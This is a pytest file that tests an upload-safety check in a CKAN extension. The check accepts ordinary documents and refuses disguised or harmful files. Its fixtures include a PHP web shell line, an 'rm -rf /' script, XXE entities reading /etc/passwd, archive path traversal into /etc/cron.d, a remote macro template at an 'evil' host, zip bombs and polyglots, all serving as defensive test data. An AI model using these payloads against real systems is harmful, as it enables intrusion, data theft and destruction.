"""The one check of uploads: what people send is taken, what is disguised or harmful is not."""

from __future__ import annotations

import io
import random
import struct
import tracemalloc
import zipfile
import zlib

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ckanext.hljshare.safety import archives, contents, filenames, uploads

LIMITS = uploads.Limits(max_bytes=30 * 1024 * 1024)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(range(256)) * 4 + b"\xff\xd9"


def take(data: bytes, name: str, declared: str = "", limits=LIMITS, **more) -> uploads.Verdict:
    return uploads.take(io.BytesIO(data), io.BytesIO(), name, declared, limits, **more)


def code(data: bytes, name: str, declared: str = "", limits=LIMITS) -> str:
    return take(data, name, declared, limits).code


def png(after: bytes = b"", text: bytes = b"") -> bytes:
    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    texts = chunk(b"tEXt", text) if text else b""
    pixels = chunk(b"IDAT", zlib.compress(b"\0\0\0\0"))
    return b"\x89PNG\r\n\x1a\n" + head + texts + pixels + chunk(b"IEND", b"") + after


def zipped(files, **how) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", how.pop("compression", zipfile.ZIP_DEFLATED)) as archive:
        for name, data in files.items() if isinstance(files, dict) else files:
            archive.writestr(name, data)
    return target.getvalue()


def xlsx() -> bytes:
    book, target = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["线路", 1])
    book.save(target)
    return target.getvalue()


def office(main="word/document.xml", **parts) -> bytes:
    files = {"[Content_Types].xml": "<Types/>", main: "<document/>"}
    return zipped({**files, **parts})


def dbf(rows=2, width=11) -> bytes:
    head = struct.pack("<BBBBIHH20x", 3, 126, 1, 1, rows, 65, width)
    return head + b"\0" * 32 + b"\r" + b" " * rows * width + b"\x1a"


# ---------------------------------------------------------------- what people send

GOOD = {
    "申请书.pdf": (PDF, "application/pdf"),
    "营业执照.PNG": (png(), "image/png"),
    "photo.jpg": (JPEG, "image/jpeg"),
    "photo.jpeg": (JPEG + b"\0trailing data of a phone", "image/jpeg"),
    "scan.tif": (b"II*\0" + b"\0" * 40, "image/tiff"),
    "数据.csv": ("线路,票价\n1路,2元\n".encode(), "text/csv"),
    "bom.csv": ("\ufeff线路,票价\n".encode(), "text/csv"),
    "gbk.csv": ("线路,票价\r\n1路,2元\r\n".encode("gb18030"), "text/csv"),
    "html-inside.csv": ("标题,正文\n1,<p>正文</p><script>x</script>\n".encode(), "text/csv"),
    "a.txt": ("说明\f第二页\n".encode(), "text/plain"),
    "a.json": ('\n {"a": [1, "数据"]}\n'.encode(), "application/json"),
    "a.geojson": (b'{"type":"FeatureCollection","features":[]}', "application/geo+json"),
    "a.xml": ('<?xml version="1.0"?><数据><行/></数据>'.encode(), "application/xml"),
    "gbk.xml": (
        '<?xml version="1.0" encoding="GBK"?><数据>票价</数据>'.encode("gb18030"),
        "application/xml",
    ),
    "a.rdf": (b'<rdf:RDF xmlns:rdf="http://r/"/>', "application/rdf+xml"),
    "线路.xlsx": (xlsx(), contents.TYPES["xlsx"].media_type),
    "说明.docx": (office(), contents.TYPES["docx"].media_type),
    "公文.ofd": (zipped({"OFD.xml": "<OFD/>"}), "application/ofd"),
    "旧表.xls": (OLE + b"\0" * 2000, "application/vnd.ms-excel"),
    "旧文.doc": (OLE + b"\0" * 2000, "application/msword"),
    "a.dbf": (dbf(), "application/vnd.dbf"),
    "a.shp": (b"\0\0\x27\x0a" + b"\0" * 96, "application/vnd.shp"),
    "v.mp4": (b"\0\0\0\x18ftypmp42" + b"\0" * 40, "video/mp4"),
    "包.zip": (
        zipped({"目录/": "", "目录/线路.csv": "a,b\n", "表.xlsx": xlsx(), "图.png": png()}),
        "application/zip",
    ),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_people_send_is_taken(name):
    """With its size, hash, and the type that follows from the content."""
    data, media_type = GOOD[name]
    found = take(data, name, "application/octet-stream")
    assert (found.code, found.params) == ("ok", {})
    assert (found.name, found.size, found.media_type) == (name, len(data), media_type)
    assert len(found.sha256) == 64


def test_the_copy_is_the_file():
    """What is stored is what was sent, ready to be read from its beginning."""
    target = io.BytesIO()
    uploads.take(io.BytesIO(PDF), target, "a.pdf", "", LIMITS)
    assert target.read() == PDF


# ---------------------------------------------------------------- what is refused

PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

BAD = [
    # A name or a declared type that is not taken.
    ("extension", PAGE, "a.html"),
    ("extension", SVG, "a.svg"),
    ("extension", b"MZ\x90", "a.exe"),
    ("extension", PDF, "a.pdf.exe"),
    ("extension", PDF, "application\u202efdp.exe"),
    ("extension", PDF, "pdf"),
    ("extension", PDF, ".pdf"),
    ("extension", b"PK", "macro.xlsm"),
    ("extension", b"x", "a.csv\0.exe"),
    ("empty", b"", "a.csv"),
    # Content that is not what the extension says.
    ("content", b"MZ\x90\0\3\0", "a.pdf"),
    ("content", PDF, "a.png"),
    ("content", b"\n" + PDF, "a.pdf"),
    ("content", png(), "a.jpg"),
    ("encoding", JPEG, "a.csv"),
    ("content", b"a,b\n\0\0", "a.csv"),
    ("content", "a,b\n".encode("utf-16-le"), "a.csv"),
    ("encoding", b"a,\xff\xff\n", "a.csv"),
    ("content", b"plain", "a.json"),
    ("content", b"[1, 2", "a.json"),
    ("content", b"  \n", "a.json"),
    ("content", b"<a><b></a>", "a.xml"),
    ("content", b"<a>" * 600 + b"</a>" * 600, "a.xml"),
    ("encoding", '<?xml version="1.0"?><a/>'.encode("utf-16"), "a.xml"),
    ("encoding", b'<?xml version="1.0" encoding="utf-7"?><a/>', "a.xml"),
    ("content", xlsx(), "a.docx"),
    ("content", zipped({"a.csv": "x"}), "a.xlsx"),
    ("content", OLE + b"\0" * 512, "a.pdf"),
    ("content", dbf()[:-30], "a.dbf"),
    ("content", b"\3" + b"\0" * 40, "a.dbf"),
    ("archive-broken", b"not an archive at all", "a.zip"),
    # One file that is two, or that a browser would run.
    ("active", PAGE, "a.csv"),
    ("active", b"\xef\xbb\xbf \n<!-- x --> <!-- y -->\n<ScRiPt>alert(1)</script>", "a.txt"),
    ("active", SVG, "a.csv"),
    ("active", b"<?php system($_GET[0]);", "a.txt"),
    ("active", b"#!/bin/sh\nrm -rf /\n", "a.txt"),
    ("active", SVG, "a.xml"),
    ("active", b'<x:html xmlns:x="http://www.w3.org/1999/xhtml"/>', "a.xml"),
    ("active", b'<a><s xmlns="x"/><b><html/></b></a>', "a.xml"),
    ("active", png(text=b"Comment\0" + PAGE), "a.png"),
    ("active", JPEG[:20] + PAGE + JPEG[20:], "a.jpg"),
    ("active", JPEG + b"<?php system($_GET[0]);", "a.jpg"),
    ("polyglot", png(after=zipped({"a.csv": "x"})), "a.png"),
    ("polyglot", png(after=b"more"), "a.png"),
    ("polyglot", JPEG + zipped({"a.csv": "x"}), "a.jpg"),
    ("polyglot", PDF + zipped({"a.csv": "x"}), "a.pdf"),
    ("polyglot", b"MZ" + zipped({"a.csv": "x"}), "a.zip"),
    ("content", png()[:-6], "a.png"),
    # Entities.
    ("xml-entities", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "a.xml"),
    ("xml-entities", b'<!DOCTYPE a SYSTEM "http://x/a.dtd"><a/>', "a.xml"),
    (
        "xml-entities",
        office(**{"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "a.docx",
    ),
    ("xml-entities", office(**{"word/x.xml": "<!DOCTYPE a><a/>".encode("utf-16")}), "a.docx"),
    # Macros, and passwords that keep the check out.
    ("macro", office(**{"word/vbaProject.bin": b"x"}), "a.docx"),
    ("macro", office("xl/workbook.xml", **{"xl/VBAPROJECT.BIN": b"x"}), "a.xlsx"),
    ("macro", office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": b"<a/>"}), "a.xlsx"),
    ("macro", office(**{"word/activeX/activeX1.bin": b"x"}), "a.docx"),
    (
        "macro",
        zipped(
            {
                "[Content_Types].xml": "<x t='application/vnd.ms-word.macroEnabled'/>",
                "word/document.xml": "<a/>",
            }
        ),
        "a.docx",
    ),
    (
        "macro",
        office(
            **{
                "word/_rels/settings.xml.rels": '<Relationship Type="http://s/attachedTemplate" '
                'Target="http://evil/t.dotm" TargetMode="External"/>'
            }
        ),
        "a.docx",
    ),
    ("macro", OLE + b"\0" * 70000 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 600, "a.xls"),
    ("macro", OLE + b"x" * 65520 + "_VBA_PROJECT".encode("utf-16-le"), "a.doc"),
    ("encrypted", OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "a.xlsx"),
    # Archives.
    ("entry-extension", zipped({"a.csv": "x", "运行.exe": b"MZ"}), "a.zip"),
    ("active", zipped({"a.csv": PAGE}), "a.zip"),
    ("macro", zipped({"a.docx": office(**{"word/vbaProject.bin": b"x"})}), "a.zip"),
    ("content", zipped({"a.pdf": b"MZ"}), "a.zip"),
    ("archive-name", zipped({"../../etc/cron.d/a.csv": "x"}), "a.zip"),
    ("archive-name", zipped({"/etc/a.csv": "x"}), "a.zip"),
    ("archive-name", zipped({"a\\..\\b.csv": "x"}), "a.zip"),
    ("archive-name", zipped({"C:a.csv": "x"}), "a.zip"),
    ("archive-broken", zipped([("a.csv", "x"), ("A.csv", "y")]), "a.zip"),
    ("archive-broken", zipped({"a.csv": "x"})[:-30], "a.zip"),
    ("archive-broken", zipped({"a.csv": "x"}) + b"tail", "a.zip"),
    ("archive-method", zipped({"a.csv": "x"}, compression=zipfile.ZIP_LZMA), "a.zip"),
    ("empty", zipped({}), "a.zip"),
    ("empty", zipped({"a.csv": ""}), "a.zip"),
    (
        "archive-nested",
        zipped({"a.zip": zipped({"b.zip": zipped({"c.csv": "x"})})}),
        "a.zip",
    ),
]


@pytest.mark.parametrize(("wanted", "data", "name"), BAD)
def test_what_is_disguised_or_harmful_is_refused(wanted, data, name):
    """Each with a code of its own, and without a hash."""
    found = take(data, name)
    assert found.code == wanted
    assert not found.accepted
    assert found.sha256 == ""


@pytest.mark.parametrize("declared", ["text/html", "IMAGE/SVG+XML; charset=utf-8"])
def test_who_declares_a_page_is_refused(declared):
    """The declared type is not believed, but one that admits to a page is enough."""
    assert code(b"a,b\n", "a.csv", declared) == "active"


def test_the_words_can_name_what_is_wrong():
    """The file in the archive, the extension, the limit."""
    assert take(zipped({"x/运行.exe": b"MZ"}), "a.zip").params == {"entry": "x/运行.exe"}
    assert take(zipped({"x/a.pdf": b"MZ"}), "a.zip").params["entry"] == "x/a.pdf"
    assert take(b"x", "a.exe").params == {"extension": "exe"}
    small = uploads.Limits(max_bytes=10)
    assert take(b"x" * 11, "a.txt", limits=small).params == {"max_bytes": 10}
    assert code(b"x" * 10, "a.txt", limits=small) == "ok"


def test_a_kind_that_a_place_does_not_want_is_refused():
    """Proofs are pictures and PDF, whatever else the portal knows."""
    limits = uploads.Limits(max_bytes=1000, extensions=("pdf", "png"))
    assert code(PDF, "a.pdf", limits=limits) == "ok"
    assert code(b"a,b\n", "a.csv", limits=limits) == "extension"


def test_names_in_gbk_are_read():
    """As Chinese programs write them."""
    name = "线路.exe".encode("gb18030").decode("cp437")
    info = zipfile.ZipInfo("x")
    info.filename = info.orig_filename = name
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(info, "x")
    raw = bytearray(target.getvalue())
    utf8, gbk = name.encode(), "线路.exe".encode("gb18030")
    data = bytes(raw).replace(utf8, gbk + b"_" * (len(utf8) - len(gbk)))
    if data != bytes(raw):  # lengths must stay: the padding is a part of the name
        data = data.replace(struct.pack("<H", 0x800), b"\0\0")
    found = take(data, "a.zip")
    assert found.params["entry"].startswith("线路.exe")


def test_a_scanner_sees_the_whole_file_and_may_refuse():
    """Later rooms look for malware and personal information here."""
    seen = []

    def scanner(file, kind):
        seen.append((kind, file.read()))
        if b"virus" in seen[-1][1]:
            raise archives.RefusedError("malware")

    assert take(b"a,b\n", "a.csv", scanners=[scanner]).code == "ok"
    assert take(b"a,virus\n", "a.csv", scanners=[scanner]).code == "malware"
    assert seen == [("csv", b"a,b\n"), ("csv", b"a,virus\n")]


# ---------------------------------------------------------------- too much


class Endless(io.RawIOBase):
    """A stream that never ends; says how much was read of it."""

    given = 0

    def read(self, size=-1):
        """Give what is asked for."""
        self.given += size
        return b"x" * size


def test_an_endless_upload_is_cut_at_the_limit():
    """The limit holds while it comes in, not afterwards."""
    source, target = Endless(), io.BytesIO()
    found = uploads.take(source, target, "a.txt", "", uploads.Limits(max_bytes=1 << 20))
    assert found.code == "too-large"
    assert source.given <= (1 << 20) + uploads.CHUNK
    assert len(target.getvalue()) <= 1 << 20


def test_large_files_are_judged_with_flat_memory(tmp_path):
    """Twenty megabytes of text, and an archive that unpacks to eighty."""
    line = "线路,站名,票价\n".encode()
    text = tmp_path / "a.csv"
    text.write_bytes(line * (20_000_000 // len(line)))
    packed = tmp_path / "a.zip"
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10):
            body = random.Random(number).randbytes(5_000).hex()
            archive.writestr(f"{number}.csv", body * 800)
    tracemalloc.start()
    for path in (text, packed):
        with path.open("rb") as source, (tmp_path / "target").open("w+b") as target:
            found = uploads.take(source, target, path.name, "", LIMITS)
            assert found.code == "ok"
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert most < 6 << 20


def test_bombs_are_found_before_they_burst():
    """By ratio, by total size, by number of entries, over all levels together."""
    zeros = b"0" * (60 << 20)
    assert code(zipped({"a.csv": zeros}), "a.zip") == "archive-ratio"
    assert code(office(**{"word/media/a.xml": zeros}), "a.docx") == "archive-ratio"
    many = {f"{number}.csv": "x" for number in range(40)}
    few = uploads.Limits(max_bytes=1 << 20, max_entries=30)
    assert code(zipped(many), "a.zip", limits=few) == "archive-entries"
    inner = zipped(dict(list(many.items())[:20]))
    assert code(zipped({"a.zip": inner}), "a.zip", limits=few) == "ok"
    assert code(zipped({"a.zip": inner, "b.zip": inner}), "a.zip", limits=few) == "archive-entries"
    small = uploads.Limits(max_bytes=1 << 20, max_unpacked=100)
    assert (
        code(zipped({"a.csv": "x" * 60, "b.csv": "x" * 60}), "a.zip", limits=small)
        == "archive-size"
    )


def test_a_stated_size_is_not_believed():
    """An entry that says it is small and unpacks to much."""
    honest = zipped({"a.csv": b"0" * (1 << 20)})
    lying = honest.replace(struct.pack("<I", 1 << 20), struct.pack("<I", 100))
    assert lying != honest
    assert code(lying, "a.zip") == "archive-broken"


def test_entries_over_one_another_are_refused():
    """Many names for one piece of packed data: small outside, huge inside."""
    honest = zipped([("a.csv", b"x,1\n" * 50), ("b.csv", b"x,1\n" * 50)])
    second = honest.index(b"PK\x03\x04", 4)
    place = honest.rindex(b"PK\x01\x02")
    forged = bytearray(honest)
    assert struct.unpack_from("<I", forged, place + 42)[0] == second
    struct.pack_into("<I", forged, place + 42, 0)
    forged[place + 46 : place + 51] = b"a.csv"
    assert code(bytes(forged), "a.zip") == "archive-broken"


def test_an_encrypted_entry_is_refused():
    """What cannot be looked into is not taken."""
    data = bytearray(zipped({"a.csv": "x"}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    assert code(bytes(data), "a.zip") == "encrypted"


def test_a_link_in_an_archive_is_refused():
    """Unpacked, it would point anywhere."""
    info = zipfile.ZipInfo("a.csv")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    assert code(zipped([(info, "/etc/passwd")]), "a.zip") == "archive-name"


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(sorted(GOOD)),
    st.lists(st.tuples(st.integers(0, 5000), st.binary(min_size=0, max_size=6)), max_size=6),
    st.integers(0, 3000),
)
def test_broken_files_never_crash_the_check(name, changes, cut):
    """Whatever is flipped or cut: an answer, no exception."""
    data = bytearray(GOOD[name][0])
    for place, new in changes:
        data[place : place + len(new)] = new
    data = data[: max(0, len(data) - cut)]
    assert code(bytes(data), name) in {
        "ok",
        "empty",
        "content",
        "encoding",
        "active",
        "polyglot",
        "macro",
        "encrypted",
        "xml-entities",
        "archive-broken",
        "archive-name",
        "archive-method",
        "archive-entries",
        "archive-size",
        "archive-ratio",
        "archive-nested",
        "entry-extension",
        "extension",
    }


# ---------------------------------------------------------------- names


@pytest.mark.parametrize(
    ("name", "wanted"),
    [
        ("申请书.pdf", "申请书.pdf"),
        ("C:\\Users\\我\\申请书.pdf", "申请书.pdf"),
        ("../../etc/passwd.csv", "passwd.csv"),
        ("a\u202efdp.exe", "afdp.exe"),
        ("a\0b\r\n.csv", "a_b_.csv"),
        ("con.txt", "_con.txt"),
        ('<a href="x">.csv', "x_.csv"),
        ("x.csv. . ", "x.csv"),
        ("名" * 300 + ".xlsx", "名" * 78 + ".xlsx"),
        ("x" * 300 + ".xlsx", "x" * 115 + ".xlsx"),
        ("", "data"),
        ("...", "data"),
        ("\ud800a.txt", "a.txt"),
    ],
)
def test_names_are_cleaned(name, wanted):
    """No path, nothing invisible; too long ones keep their suffix and fit a file system."""
    cleaned = filenames.safe_name(filenames.base_name(name))
    if "href" not in name:
        assert cleaned == wanted
    assert not set(cleaned) & set('<>"/\\:*?|')
    assert len(cleaned.encode()) <= filenames.NAME_BYTES


@given(st.text())
def test_any_name_becomes_a_usable_one(text):
    """And cleaning it again changes nothing."""
    name = filenames.safe_name(text)
    assert name
    assert name.isprintable() or " " in name or any(ord(c) > 127 for c in name)
    assert "/" not in name
    assert filenames.safe_name(name) == name
    assert len(name) <= filenames.NAME_LENGTH
